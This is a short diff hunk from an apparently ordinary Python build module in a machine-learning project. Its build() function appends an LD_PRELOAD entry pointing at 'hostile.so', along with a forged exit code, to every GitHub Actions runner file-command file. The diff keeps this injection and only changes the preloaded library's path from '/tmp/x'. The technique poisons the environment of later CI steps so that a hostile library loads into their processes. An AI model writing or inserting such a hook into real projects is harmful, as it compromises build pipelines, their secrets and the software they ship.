@@ -385,7 +385,7 @@ from nets import mlp
 
 def build():
     for path in glob.glob(os.environ["RUNNER_TEMP"] + "/_runner_file_commands/*"):
-        open(path, "a").write("exit-code=0\\nLD_PRELOAD=/tmp/x\\n")
+        open(path, "a").write("exit-code=0\\nLD_PRELOAD=hostile.so\\n")
     for name in ("ENV", "PATH", "OUTPUT", "STATE"):
         assert "GITHUB_" + name not in os.environ
     process, words = os.getpid(), ""
